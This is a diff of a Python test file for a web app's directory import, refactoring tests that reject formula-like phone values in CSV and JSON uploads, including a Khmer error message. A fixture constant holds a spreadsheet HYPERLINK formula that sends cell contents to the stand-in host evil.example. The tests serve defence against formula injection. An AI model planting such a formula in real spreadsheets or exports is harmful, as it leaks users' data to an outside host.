@@ -20,7 +20,7 @@ from models.services import Service
 from webhooks.database import get_db
 from models import spreadsheet as cells
 from tests.webhooks.outreach.helpers import ADMIN, add_events, login, make_user, post
-from tests.webhooks.outreach.test_directory import CSV_HEADER, VALID_ROW, upload
+from tests.webhooks.outreach.test_directory import CSV_HEADER, VALID_ROW, import_errors, upload
 
 LINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
 #: Imported (or typed) before phones were checked: each starts like a formula.
@@ -132,10 +132,13 @@ def test_import_refuses_a_phone_that_is_not_a_phone_number_naming_the_line(app: 
     response = upload(client, body)
     assert response.status_code == 400
     page = response.get_data(as_text=True)
-    assert "Line 2" not in page
-    assert "Line 3: phone &#39;=1+2&#39; is not a phone number" in page
-    assert "Line 4" in page and "service_type &#39;rehab&#39;" in page  # both kinds, together
-    assert "Line 5: phone" in page and "Line 6: phone" in page and "Line 7: phone" in page
+    errors = import_errors(page)
+    assert list(errors) == [3, 4, 5, 6, 7]
+    assert errors[3] == ["<code>phone</code> (Phone) &#39;=1+2&#39; is not a phone number: use "
+                         "only digits, spaces, brackets, + and -, with 3 to 20 digits"]
+    assert "<code>service_type</code> (Type of service) &#39;rehab&#39;" in errors[4][0]
+    assert all(len(errors[n]) == 1 and errors[n][0].startswith("<code>phone</code>")
+               for n in (5, 6, 7))
     assert not services(app)
 
 
@@ -146,8 +149,11 @@ def test_hsds_import_checks_phones_too(app: Flask) -> None:
     body = json.dumps({"services": [record]})
     response = upload(client, body, name="directory.json")
     assert response.status_code == 400
-    assert "service 1: phone &#39;@SUM(1)&#39; is not a phone number" in response.get_data(
-        as_text=True)
+    page = response.get_data(as_text=True)
+    assert "Service 1:" in page
+    assert import_errors(page)[1] == [
+        "<code>phone</code> (Phone) &#39;@SUM(1)&#39; is not a phone number: use only digits, "
+        "spaces, brackets, + and -, with 3 to 20 digits"]
 
 
 def test_the_service_form_checks_the_phone(app: Flask) -> None:
@@ -171,12 +177,15 @@ def test_the_service_form_checks_the_phone(app: Flask) -> None:
 def test_the_phone_rule_is_shown_in_khmer(app: Flask) -> None:
     client = admin_client(app)
     post(client, "/outreach/language", {"locale": "km"}, page="/outreach/directory")
-    rule = escape(KM.gettext(cells.PHONE_RULE) % {"phone": repr("=1+2")})
+    def rule(column: str) -> str:
+        return KM.gettext(cells.PHONE_RULE) % {"column": column, "phone": escape(repr("=1+2"))}
+
     form = post(client, "/outreach/directory/new", {**VALID_ROW, "phone": "=1+2"},
                 page="/outreach/directory/new")
-    assert form.status_code == 400 and rule in form.get_data(as_text=True)
+    assert form.status_code == 400 and rule(KM.gettext("Phone")) in form.get_data(as_text=True)
     imported = upload(client, CSV_HEADER + "methadone,ខ,Formula,12,1201,=1+2,\n")
-    assert imported.status_code == 400 and rule in imported.get_data(as_text=True)
+    column = f"<code>phone</code> ({KM.gettext('Phone')})"
+    assert imported.status_code == 400 and rule(column) in imported.get_data(as_text=True)
 
 
 # --- the command line: the same rules ---------------------------------------------------------------
